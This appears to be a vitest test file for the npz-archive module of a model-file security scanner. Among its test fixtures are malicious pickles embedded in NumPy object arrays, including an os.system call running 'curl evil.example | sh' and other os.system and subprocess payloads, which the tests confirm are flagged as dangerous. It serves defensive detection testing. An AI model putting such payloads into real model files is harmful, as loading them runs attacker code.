import { join } from 'node:path';
import { deflateSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { MAX_FINDINGS_PER_RULE, looksLikeNpz, npzFormat, npzKey } from '../../src/formats/npz.ts';
import { createNodeSha256 } from '../../src/hash/node-sha256.ts';
import { createMemorySource } from '../../src/io/memory-source.ts';
import { createNodeFileSource } from '../../src/io/node-source.ts';
import type { FileReport, Finding } from '../../src/report/types.ts';
import { scanSource } from '../../src/scan.ts';
import { buildNpy } from '../builders/npy.ts';
import { binunicode, call, global, payload, pickle, proto, stop } from '../builders/pickle.ts';
import { type ZipEntrySpec, buildZip } from '../builders/zip.ts';

const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'numpy');

async function scanFixture(file: string): Promise<FileReport> {
  return scanSource(await createNodeFileSource(join(FIXTURES, file), file), { createSha256: createNodeSha256 });
}

async function scanZip(specs: ZipEntrySpec[], chunkSize?: number): Promise<FileReport> {
  return scanSource(createMemorySource(buildZip(specs).bytes(), 'arrays.npz'), { createSha256: createNodeSha256, chunkSize });
}

const rules = (report: { findings: Finding[] }) => report.findings.map((finding) => finding.rule);
const findingOf = (report: FileReport, rule: string) => report.findings.find((finding) => finding.rule === rule);

/** A malicious object array: its pickle calls os.system with a shell command. */
const evilObjectArray = () => buildNpy({ descr: '|O', shape: [1], data: pickle(proto(2), call(global('os', 'system'), binunicode('curl evil.example | sh')), stop()) });

describe('npz fixtures written by NumPy 1.24 (make_fixtures.py)', () => {
  // np.load(...)[key].dtype.str and .shape checked in Python; offsets: each member's data offset
  // (zipfile header_offset + 30 + name + extra) plus the 128-byte .npy header, inside the member when deflated.
  it('np.savez: stored members, tensors named by key with file offsets, clean', async () => {
    const report = await scanFixture('arrays.npz');
    expect(report.format).toBe('npz');
    expect(report.verdict).toBe('clean');
    expect(report.findings).toEqual([]);
    expect(report.tensors).toEqual([
      { name: 'weights', dtype: '<f4', shape: [2, 2], offset: 61 + 128, length: 16 },
      { name: 'bias', dtype: '<i4', shape: [3], offset: 263 + 128, length: 12 },
    ]);
    expect(report.metadata).toMatchObject({ members: 2, compressedMembers: 0 });
    expect(report.weightsOnly).toBeUndefined();
  });

  it('np.savez_compressed: deflated members, offsets inside each member, clean', async () => {
    const report = await scanFixture('compressed.npz');
    expect(report.verdict).toBe('clean');
    expect(report.findings).toEqual([]);
    expect(report.tensors).toEqual([
      { name: 'weights', dtype: '<f4', shape: [2, 2], offset: 128, length: 16 },
      { name: 'bias', dtype: '<i4', shape: [3], offset: 128, length: 12 },
    ]);
    expect(report.metadata).toMatchObject({ members: 2, compressedMembers: 2 });
  });

  it('an object array member is a pickle of numpy globals: scanned, info only', async () => {
    const report = await scanFixture('object.npz');
    expect(report.verdict).toBe('clean');
    expect(rules(report)).toContain('numpy.object-array');
    expect(report.findings.every((finding) => finding.severity === 'info')).toBe(true);
    expect(report.tensors).toEqual([
      { name: 'labels', dtype: '|O', shape: [2], offset: 60 + 128, length: 164 },
      { name: 'values', dtype: '<f8', shape: [2], offset: 412 + 128, length: 16 },
    ]);
    expect(report.metadata['pickle labels.npy']).toBeDefined();
    expect(report.weightsOnly).toBeDefined();
  });
});

describe('malicious and malformed npz archives', () => {
  it.each([
    ['stored', 0],
    ['deflated (savez_compressed)', 8],
  ])('an object array whose pickle calls os.system (%s) is dangerous, with the command as evidence', async (_, method) => {
    const built = buildZip([
      { name: 'weights.npy', data: buildNpy({ descr: '<f4', shape: [2], data: new Uint8Array(8) }), method },
      { name: 'labels.npy', data: evilObjectArray(), method },
    ]);
    const report = await scanSource(createMemorySource(built.bytes(), 'model.npz'), { createSha256: createNodeSha256 });
    expect(report.verdict).toBe('dangerous');
    const called = findingOf(report, 'pickle.call.dangerous');
    expect(called?.evidence).toContain('curl evil.example | sh');
    expect(called?.location.entry).toBe('labels.npy');
    // The GLOBAL is 2 bytes into the pickle, which starts after the 128-byte header: file offsets when stored, member offsets when deflated.
    const base = method === 0 ? built.entries[1].dataOffset : 0;
    expect(findingOf(report, 'pickle.import.process')?.location).toEqual({ entry: 'labels.npy', offset: base + 128 + 2 });
    expect(report.weightsOnly?.accepted).toBe(false);
    expect(report.tensors.map((tensor) => tensor.name)).toEqual(['weights', 'labels']);
  });

  it('a pickle member that is not an .npy is still scanned as a pickle', async () => {
    const report = await scanZip([
      { name: 'a.npy', data: buildNpy({ descr: '<f4', shape: [1], data: new Uint8Array(4) }) },
      { name: 'meta.pkl', data: payload('os', 'system', 'id') },
    ]);
    expect(rules(report)).toEqual(expect.arrayContaining(['numpy.npz.not-npy-member', 'pickle.import.process', 'pickle.call.dangerous']));
    expect(findingOf(report, 'numpy.npz.not-npy-member')?.detail).toContain('It reads as a pickle, so it was scanned as one.');
    expect(report.verdict).toBe('dangerous');
  });

  it('an .npy under another name is read as an array, as np.load does by its magic', async () => {
    const report = await scanZip([
      { name: 'a.npy', data: buildNpy({ descr: '<f4', shape: [1], data: new Uint8Array(4) }) },
      { name: 'readme.txt', data: evilObjectArray() },
    ]);
    expect(report.tensors.map((tensor) => tensor.name)).toEqual(['a', 'readme.txt']);
    expect(report.verdict).toBe('dangerous');
  });

  it('a member np.load hands back as bytes is noted', async () => {
    const report = await scanZip([
      { name: 'a.npy', data: buildNpy({ descr: '<f4', shape: [1], data: new Uint8Array(4) }) },
      { name: 'notes.txt', data: 'hello' },
    ]);
    expect(rules(report)).toEqual(['numpy.npz.not-npy-member']);
    expect(report.verdict).toBe('suspicious');
    expect((report.metadata.arrays as unknown[])[1]).toEqual({ member: 'notes.txt', key: 'notes.txt', content: 'bytes', size: 5 });
  });

  it('header problems of a member carry the member name', async () => {
    const report = await scanZip([{ name: 'short.npy', data: buildNpy({ descr: '<f8', shape: [4], data: new Uint8Array(8) }) }]);
    const truncated = findingOf(report, 'numpy.data.truncated');
    expect(truncated?.location.entry).toBe('short.npy');
    expect(report.verdict).toBe('malformed');
  });

  it('a corrupt deflated member is reported and the others are still read', async () => {
    const report = await scanZip([
      { name: 'bad.npy', rawData: Uint8Array.of(0xff, 0xff, 0xff, 0xff), method: 8, uncompressedSize: 200 },
      { name: 'good.npy', data: buildNpy({ descr: '<i2', shape: [2], data: new Uint8Array(4) }) },
    ]);
    expect(rules(report)).toEqual(expect.arrayContaining(['container.inflate.corrupt', 'numpy.npz.member-not-read']));
    expect(report.tensors.map((tensor) => tensor.name)).toEqual(['good']);
  });

  it('a deflated .npy whose data breaks off inside its long header is reported, not thrown', async () => {
    const fields = Array.from({ length: 20_000 }, (_, index) => `('f${(index * 7919) % 100_003}', '<u1')`).join(', ');
    const npy = buildNpy({ version: [2, 0], header: `{'descr': [${fields}], 'fortran_order': False, 'shape': (1,), }`, data: new Uint8Array(20_000) });
    const compressed = deflateSync(npy);
    // Half the compressed stream: the first KB decodes (the member is recognised), the header does not.
    const report = await scanZip([{ name: 'a.npy', rawData: compressed.subarray(0, compressed.length >> 1), method: 8, uncompressedSize: npy.length }]);
    expect(rules(report)).toEqual(['container.inflate.corrupt']);
    expect(report.findings[0].location.entry).toBe('a.npy');
    expect(report.metadata.arrays).toEqual([{ member: 'a.npy', key: 'a', content: 'npy (unreadable)' }]);
  });

  it('text that merely reads as a protocol 0 pickle is left as bytes; a real protocol 0 payload is not', async () => {
    const npyMember: ZipEntrySpec = { name: 'a.npy', data: buildNpy({ descr: '<f4', shape: [1], data: new Uint8Array(4) }) };
    const text = await scanZip([npyMember, { name: 'README', data: 'class Notes(Base):\n  written by hand\n' }]);
    expect(rules(text)).toEqual(['numpy.npz.not-npy-member']);
    const protocol0 = await scanZip([npyMember, { name: 'run.txt', data: "cos\nsystem\n(S'id'\ntR." }]);
    expect(rules(protocol0)).toEqual(expect.arrayContaining(['pickle.import.process', 'pickle.call.dangerous']));
  });

  it('a stored member with a wrong CRC is reported from the streaming pass', async () => {
    const report = await scanZip([{ name: 'a.npy', data: buildNpy({ descr: '<f4', shape: [1], data: new Uint8Array(4) }), crc32: 1 }]);
    expect(rules(report)).toEqual(['zip.entry.crc-mismatch']);
  });

  it('caps member findings per rule and counts the rest (CWE-770)', async () => {
    const specs: ZipEntrySpec[] = [{ name: 'a.npy', data: buildNpy({ descr: '<f4', shape: [1], data: new Uint8Array(4) }) }];
    for (let index = 0; index < MAX_FINDINGS_PER_RULE + 20; index += 1) specs.push({ name: `note${index}.txt`, data: 'x' });
    const report = await scanZip(specs);
    const notNpy = report.findings.filter((finding) => finding.rule === 'numpy.npz.not-npy-member');
    expect(notNpy).toHaveLength(MAX_FINDINGS_PER_RULE + 1);
    expect(notNpy.at(-1)?.detail).toBe(`20 more findings of this rule were not listed (${MAX_FINDINGS_PER_RULE + 20} in all).`);
  });

  it('gives the same findings for any chunk size of the pass', async () => {
    const specs: ZipEntrySpec[] = [
      { name: 'x.npy', data: evilObjectArray() },
      { name: 'y.pkl', data: payload('subprocess', 'Popen', 'ls') },
    ];
    const whole = await scanZip(specs);
    for (const chunkSize of [1, 13, 100]) expect((await scanZip(specs, chunkSize)).findings).toEqual(whole.findings);
  });
});

describe('npz detection and keys', () => {
  it('detects a zip whose first local name ends with .npy, whatever the file name', () => {
    expect(looksLikeNpz(buildZip([{ name: 'x.npy', data: 'a' }]).bytes())).toBe(true);
    expect(npzFormat.detect(buildZip([{ name: 'x.NPY', data: 'a' }]).bytes(), 'model.bin')).toBe(true);
    expect(looksLikeNpz(buildZip([{ name: 'archive/data.pkl', data: 'a' }]).bytes())).toBe(false);
    expect(looksLikeNpz(Uint8Array.of(0x50, 0x4b, 0x03, 0x04))).toBe(false);
  });

  it('names arrays as np.load keys them', () => {
    expect(npzKey('weights.npy')).toBe('weights');
    expect(npzKey('dir/w.npy')).toBe('dir/w');
    expect(npzKey('notes.txt')).toBe('notes.txt');
  });
});
